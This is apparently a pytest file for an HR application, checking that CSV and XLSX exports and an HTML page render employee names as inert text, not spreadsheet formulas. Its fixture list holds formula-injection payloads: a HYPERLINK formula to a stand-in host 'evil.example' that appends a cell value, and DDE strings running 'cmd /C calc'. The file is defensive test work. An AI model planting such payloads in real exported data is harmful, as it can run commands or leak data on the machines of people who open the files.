"""Names that are formulas: downloaded tables hold them as text, which no spreadsheet program runs."""

import csv
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from python_calamine import CalamineWorkbook

from app.services import people
from tests.factories import COURSE, NOW

FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dSUM(A1:A9)",
    ' =SUM(A1:A9)";"=1+1',
    "https://evil.example/",
    'Ordinary "Quoted" Name, with a comma',
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def named(world):
    """People of Harbour Lane with such names, numbers and titles; who is assigned a course."""
    ids = []
    for number, formula in enumerate(FORMULAS):
        with world.database.writing.begin() as db:
            details = people.PersonDetails(
                employee_number=f"={number}", name=formula, email=f"=person{number}@example.com"
            )
            post = people.Post(
                legal_entity_id=world.legal_entity,
                department_id=world.department,
                title=formula[:200],
                location=formula,
            )
            ids.append(people.take_on(db, details, post, NOW, actor_id=None))
    form = {
        "key": "with-formulas",
        "people": " ".join(map(str, ids)),
        "assign": COURSE,
        "due": "after",
        "due_days": "3",
    }
    assert world.client("hr").post("/hr/assign/", data=form).status_code == 303
    return ids


FILES = ["/hr/reports/people_by_course.{}", "/hr/done/with-formulas.{}"]


@pytest.mark.parametrize("path", FILES)
def test_no_cell_of_a_csv_file_begins_a_formula(world, named, path):
    answer = world.client("hr").get(path.format("csv"), buffered=True)
    table = list(csv.reader(StringIO(answer.data.decode("utf-8-sig"))))
    cells = [cell for row in table for cell in row]
    assert [cell for cell in cells if cell.lstrip(" \u00a0").startswith(STARTS)] == []
    stripped = {cell.removeprefix("'") for cell in cells}
    assert {formula.strip() for formula in FORMULAS} <= {cell.strip() for cell in stripped}
    assert len({len(row) for row in table}) == 1  # no quote or comma made a cell of its own


@pytest.mark.parametrize("path", FILES)
def test_every_cell_of_an_xlsx_file_is_text(world, named, path):
    answer = world.client("hr").get(path.format("xlsx"), buffered=True)
    book = CalamineWorkbook.from_filelike(BytesIO(answer.data))
    assert {cell for row in book.get_sheet_by_index(0).to_python() for cell in row} >= set(FORMULAS)
    formulas = book.get_sheet_by_index(0)
    assert formulas.height == len(table_of(world, path)), "as many lines as the CSV file"


def table_of(world, path: str) -> list[list[str]]:
    answer = world.client("hr").get(path.format("csv"), buffered=True)
    return list(csv.reader(StringIO(answer.data.decode("utf-8-sig"))))


@pytest.mark.parametrize("path", FILES)
def test_an_xlsx_file_has_no_formula_and_no_link_inside(world, named, path):
    with ZipFile(BytesIO(world.client("hr").get(path.format("xlsx"), buffered=True).data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheets = [body for name, body in parts.items() if name.startswith("xl/worksheets/")]
    assert sheets
    for body in sheets:
        assert b"<f>" not in body
        assert b"<hyperlink" not in body
    assert not any("externalLink" in name or "vba" in name.lower() for name in parts)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_file_is_saved_and_not_opened_in_the_browser(world, kind):
    headers = world.client("hr").get(f"/hr/reports/people_by_course.{kind}", buffered=True).headers
    assert headers["Content-Disposition"].startswith('attachment; filename="people-by-course-')
    assert headers["Content-Type"].startswith(("text/csv", "application/vnd.openxml"))
    assert "no-store" in headers["Cache-Control"]


def test_the_page_of_a_formula_is_text_too(world, named):
    page = world.client("hr").get("/hr/?q=HYPERLINK").text
    assert "=HYPERLINK(&#34;https://evil.example/&#34;&amp;A1,&#34;Open&#34;)" in page
